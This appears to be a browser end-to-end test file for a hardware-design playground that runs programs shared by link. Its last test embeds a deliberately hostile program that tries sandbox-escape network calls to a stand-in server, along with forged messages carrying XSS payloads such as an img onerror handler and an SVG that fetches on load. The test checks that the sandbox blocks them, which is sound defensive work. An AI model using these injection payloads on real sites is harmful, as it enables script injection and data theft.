/** The playground: programs by links, and the limits of their power. */

import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, it, onTestFinished } from 'vitest'
import type { Page } from 'playwright-core'
import { packProgram } from '../../../../web/live/share.js'
import { describeSite, openPage, serveSite } from '../support/site.js'

const counter = `'use rtl'
import { bool, input, Module, output, reg, seq, uint } from 'flitwave/hdl'

export class Counter extends Module {
  enable = input(bool)
  count = reg(uint(4), 0)

  @seq update() {
    if (this.enable) this.count++
  }
}
`

const bench = (before = '', inside = ''): string => `import { testbench } from 'flitwave'
import { Counter } from './counter.js'
${before}
export default testbench({
  title: 'A counter',
  design: () => new Counter(),
  signals: ['dut.*'],
  cycles: 9,
  drivers: {
    enable(t) {
      t.dut.enable = t.cycle % 2 === 0
      ${inside}
    },
  },
})
`

const linkOf = (testbench: string): string =>
  packProgram({ files: { 'counter.ts': counter, 'counter.tb.ts': testbench }, entry: 'counter.tb.ts' })

/** Waits until the program of the page has run. */
async function finished(page: Page): Promise<string> {
  await page.locator('.status:is([data-state=good], [data-state=bad])').waitFor()
  return (await page.locator('.status').textContent())!
}

describeSite('the playground', () => {
  it('shows and runs the program of a link, and keeps what is written in the address', async () => {
    const site = await serveSite()
    const { page, complaints } = await openPage(`${site}playground.html#${linkOf(bench('', 'console.log(t.cycle)'))}`)
    expect(await finished(page)).toBe('9 cycles, no checks')
    expect(await page.getByRole('tab').allTextContents()).toEqual(['counter.ts', 'counter.tb.ts'])
    expect(await page.locator('.cm-content:visible').textContent()).toContain('class Counter')
    expect(await page.locator('.printed').textContent()).toBe('0\n1\n2\n3\n4\n5\n6\n7\n8')
    await page.getByRole('tab', { name: 'counter.tb.ts' }).click()
    await page.locator('.cm-line:visible').filter({ hasText: 'cycles: 9' }).click()
    await page.keyboard.press('End')
    await page.keyboard.press('ArrowLeft')
    await page.keyboard.press('Backspace')
    await page.keyboard.insertText('7')
    await page.locator('.status', { hasText: '7 cycles' }).waitFor()
    await page.getByRole('button', { name: 'Copy link' }).click()
    const { page: other } = await openPage(page.url())
    expect(await finished(other)).toBe('7 cycles, no checks')
    expect(complaints).toEqual([])
  })

  it('names the place of what is wrong, and goes there; adds, renames and removes files', async () => {
    const { page } = await openPage(
      `${await serveSite()}playground.html#${linkOf(bench().replace('enable =', 'enabel ='))}`,
    )
    await finished(page)
    await page.getByRole('button', { name: 'counter.tb.ts:11' }).click()
    expect(await page.locator('.cm-wrong:visible').textContent()).toContain('enabel')
    expect(await page.getByRole('tab', { name: 'counter.tb.ts, with errors' }).getAttribute('aria-selected')).toBe(
      'true',
    )
    await page.getByRole('button', { name: 'Add a file' }).click()
    await page.keyboard.insertText('other name')
    await page.keyboard.press('Enter')
    // An invalid name: the field asks again.
    await page.locator('input.tab.wrong').fill('gate.ts')
    await page.keyboard.press('Enter')
    expect(await page.getByRole('tab').allTextContents()).toEqual(['counter.ts', 'counter.tb.ts', 'gate.ts'])
    await page.getByRole('button', { name: 'Remove gate.ts' }).click()
    expect(await page.getByRole('tab').allTextContents()).toEqual(['counter.ts', 'counter.tb.ts'])
  })

  it('brings back a file that was removed, and a program that made room for an example', async () => {
    const { page } = await openPage(`${await serveSite()}playground.html#${linkOf(bench())}`)
    await finished(page)
    const choice = page.locator('select')
    const shown = (): Promise<string | null> => choice.locator('option:checked').textContent()
    const tabs = page.getByRole('tab')
    const undo = page.getByRole('button', { name: 'Undo' })
    expect(await shown()).toBe('your own program')
    await page.getByRole('button', { name: 'Remove counter.ts' }).click()
    expect(await tabs.allTextContents()).toEqual(['counter.tb.ts'])
    await undo.click()
    expect(await tabs.allTextContents()).toEqual(['counter.ts', 'counter.tb.ts'])
    await page.locator('.status', { hasText: '9 cycles, no checks' }).waitFor()

    await choice.selectOption('A queue of the package')
    await page.locator('.status', { hasText: '14 cycles, 47 checks passed' }).waitFor()
    await undo.click()
    await page.locator('.status', { hasText: '9 cycles, no checks' }).waitFor()
    expect(await tabs.allTextContents()).toEqual(['counter.ts', 'counter.tb.ts'])
    expect(await shown()).toBe('your own program')

    await choice.selectOption('A queue of the package')
    expect(await shown()).toBe('A queue of the package')
    await page.goBack()
    await page.locator('.status', { hasText: '9 cycles, no checks' }).waitFor()
    await page.goForward()
    await page.locator('.status', { hasText: '14 cycles, 47 checks passed' }).waitFor()
    expect(await shown()).toBe('A queue of the package')
    await page.getByRole('button', { name: 'Rename fifo.ts' }).click()
    await page.keyboard.insertText('queue.ts')
    await page.keyboard.press('Enter')
    expect(await shown()).toBe('your own program')
  })

  const packed = (data: unknown): string => packProgram(data as never)
  const whole = linkOf(bench())

  const damaged: readonly (readonly [fragment: string, message: string])[] = [
    [whole.slice(0, whole.length / 2), 'a part of it is missing or has changed'],
    ['p=1.AAAA????', 'it holds no program'],
    [whole.replace('p=1', 'p=7'), 'of version 7'],
    [packed({ files: { 'a.ts': 7 }, entry: 'a.ts' }), 'what it holds is no program'],
    [packed({ files: { '../a.ts': '' }, entry: '../a.ts' }), 'what it holds is no program'],
    [packed({ files: { 'a.ts': 'x'.repeat(50_000_000) }, entry: 'a.ts' }), 'more than'],
  ]

  it('refuses damaged links, and says so', async () => {
    const { page, complaints } = await openPage(`${await serveSite()}playground.html#${damaged[0]![0]}`)
    for (const [fragment, message] of damaged) {
      await page.evaluate(`location.hash = ${JSON.stringify(fragment)}`)
      await page.locator('.notice', { hasText: message }).waitFor()
      expect(await page.getByRole('tab').allTextContents()).toEqual(['credit-gate.ts', 'credit-gate.tb.ts'])
    }
    expect(complaints).toEqual([])
  })

  it('shows the error of the page that it is opened from, and runs every example', async () => {
    const { page, complaints } = await openPage(`${await serveSite()}docs/errors/FW133.html`)
    await page.getByRole('link', { name: 'See the error in the playground' }).click()
    const remark = page.locator('.cm-content:visible .remark')
    await remark.waitFor()
    expect(await remark.textContent()).toMatch(/^FW133 out is not assigned on every path/)
    const choice = page.locator('select')
    for (const [title, summary] of [
      ['Turns: two senders and one link', '11 cycles, 9 checks passed'],
      ['Credits: a gate for flits', '12 cycles, 12 checks passed'],
      ['A queue of the package', '14 cycles, 47 checks passed'],
      ['Round-robin arbiters of the package', '12 cycles, 108 checks passed'],
      ['Three bugs in a router', '4 cycles, 1 failure'],
    ] as const) {
      await choice.selectOption(title)
      await page.locator('.status', { hasText: summary }).waitFor()
    }
    expect(complaints).toEqual([])
  })

  it('keeps a hostile program from the network and from the page', async () => {
    const elsewhere = await foreignServer()
    const attempts = `
const told = []
const tell = (name) => (value) => told.push(name + ': ' + value)
const attempt = (name, work) => { try { tell(name)(work()) } catch (error) { tell(name)(error.name) } }
const there = '${elsewhere.url}'
attempt('document', () => typeof document)
attempt('parent', () => typeof parent)
attempt('storage', () => typeof localStorage)
attempt('script', () => importScripts(there + 'a.js'))
attempt('database', () => indexedDB.open('x').readyState)
attempt('request', () => { const request = new XMLHttpRequest(); request.open('GET', there, false); request.send(); return 'sent' })
attempt('socket', () => { new WebSocket(there.replace('http', 'ws')); return 'opened' })
fetch(there + 'b').catch(() => null)
try { new Worker(there + 'c.js') } catch {}
console.log(told.join('\\n'))
self.postMessage({ kind: 'outcome', id: 1, printed: ['forged'], outcome: { isGood: true, summary: '<b>x</b>', remarks: [{ message: '<img src=x onerror=alert(1)>', place: { file: 'counter.ts', line: 1, column: 1 } }], svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(' + "'" + there + "'" + ')"><script>fetch("' + there + '")</script></svg>' } })
`
    const site = await serveSite()
    const { page } = await openPage(`${site}playground.html#${linkOf(bench(attempts))}`)
    // The page shows the forged answer as text, and as a picture that runs nothing.
    await page.locator('.problem .remark', { hasText: '<img src=x' }).waitFor()
    expect(await page.locator('.status').textContent()).toBe('<b>x</b>')
    expect(await page.locator('.printed').textContent()).toBe('forged')
    expect(await page.locator('.live-wave img').count()).toBe(1)
    await page.getByRole('button', { name: 'Run' }).click()
    await page.locator('.printed', { hasText: 'document' }).waitFor()
    expect((await page.locator('.printed').textContent())!.split('\n')).toEqual([
      'document: undefined',
      'parent: undefined',
      'storage: undefined',
      'script: NetworkError',
      'database: SecurityError',
      'request: NetworkError',
      expect.stringMatching(/^socket: /),
    ])
    await page.waitForTimeout(500)
    expect(elsewhere.asked()).toBe(0)
  })
})

/** A server of another origin, which counts its requests. */
async function foreignServer(): Promise<{ url: string; asked: () => number }> {
  let count = 0
  const server = createServer((_, response) => {
    count++
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('')
  })
  await new Promise<void>((listening) => void server.listen(0, '127.0.0.1', listening))
  onTestFinished(() => void server.close())
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, asked: () => count }
}
